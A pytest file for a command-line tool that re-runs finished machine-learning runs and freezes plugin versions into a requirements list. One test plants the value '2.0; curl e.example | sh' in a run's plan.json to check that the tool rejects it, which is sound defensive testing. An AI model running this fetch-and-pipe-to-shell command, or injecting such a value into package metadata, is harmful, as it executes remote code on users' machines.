from __future__ import annotations

import json
import shutil
from typing import TYPE_CHECKING, Any

import pytest

from tests.plugins.conftest import Site

if TYPE_CHECKING:
    from pathlib import Path

Zoo = Any  # a fixture that runs the command line


@pytest.fixture
def site(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Site:
    """An empty site folder on `sys.path`."""
    (tmp_path / "site").mkdir()
    monkeypatch.syspath_prepend(tmp_path / "site")
    return Site(tmp_path / "site")


@pytest.mark.parametrize("where", [["--data", "moved"], ["--set", "data=moved"]])
def test_a_run_is_done_again_by_one_option_wherever_its_images_are_now(
    zoo: Zoo,
    finished: Path,
    images: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    where: list[str],
) -> None:
    monkeypatch.chdir(tmp_path)
    shutil.copytree(images, "moved")
    code, out, err = zoo("run", "--from", finished, *where, "--out", "again", "--json")
    assert code == 0, err
    before = json.loads((finished / "summary.json").read_text())
    assert json.loads(out)["val"] == before["val"]
    assert json.loads((tmp_path / "again/plan.json").read_text())["data"] == "moved"


@pytest.mark.parametrize(
    ("more", "told"),
    [
        (["a+b+c"], "a+b+c"),
        (["--epochs", "3"], "epochs"),
        (["--set", "head.dropout=0.1"], "head.dropout"),
        (["--dry-run"], "dry_run"),
        (["--deterministic"], "deterministic"),
    ],
)
def test_nothing_else_may_be_said_of_it(
    zoo: Zoo, finished: Path, more: list[str], told: str
) -> None:
    code, _, err = zoo("run", *more, "--from", finished)
    assert code == 2
    assert f"there is no place for: {told}" in err


def test_a_run_wants_a_spec_and_drift_a_run(zoo: Zoo) -> None:
    for words, told in ((["run"], "wants a SPEC"), (["run", "a+b+c", "--accept-drift"], "--from")):
        code, _, err = zoo(*words)
        assert code == 2
        assert told in err


def test_freeze_names_every_plugin_and_zoo(zoo: Zoo) -> None:
    lines = json.loads(zoo("plugins", "freeze", "--json")[1])
    assert any("zoo-heads" in line for line in lines)
    assert any("zoo-registry" in line or line.startswith("-e file:") for line in lines)
    plain = zoo("plugins", "freeze")[1].splitlines()
    assert plain == ["# uv pip install -r plugins.txt", *lines]


def test_freeze_of_a_run_names_what_it_was_made_with(zoo: Zoo, finished: Path) -> None:
    _, out, _ = zoo("plugins", "freeze", "--run", finished, "--json")
    plan = json.loads((finished / "plan.json").read_text())
    assert f"torch=={plan['packages']['torch']}" in json.loads(out)
    assert zoo("plugins", "freeze", "--run", "nowhere")[0] == 66


def test_freeze_names_where_each_plugin_came_from(zoo: Zoo, site: Site, tmp_path: Path) -> None:
    def add(name: str, origin: object) -> None:
        module = f"zoo_{name}"
        info = site.add(f"zoo-{name}", "1.0", {name: module}, {f"{module}.py": "1 / 0"})
        if origin:
            (info / "direct_url.json").write_text(json.dumps(origin))

    folder = (tmp_path / "mine").as_uri()
    add("plain", None)
    add("mine", {"url": folder, "dir_info": {"editable": True}})
    add("wheel", {"url": "https://x.example/w.whl", "archive_info": {}})
    lines = zoo("plugins", "freeze")[1].splitlines()
    assert {"zoo-plain==1.0", f"-e {folder}", "zoo-wheel @ https://x.example/w.whl"} <= {*lines}


def test_freeze_of_a_strangers_run_prints_names_and_versions_alone(
    zoo: Zoo, finished: Path
) -> None:
    plan = json.loads((finished / "plan.json").read_text())
    plan["packages"]["torch"] = "2.0; curl e.example | sh"
    (finished / "plan.json").write_text(json.dumps(plan))
    code, out, err = zoo("plugins", "freeze", "--run", finished)
    assert (code, out) == (78, "")
    assert "plan.json is damaged" in err
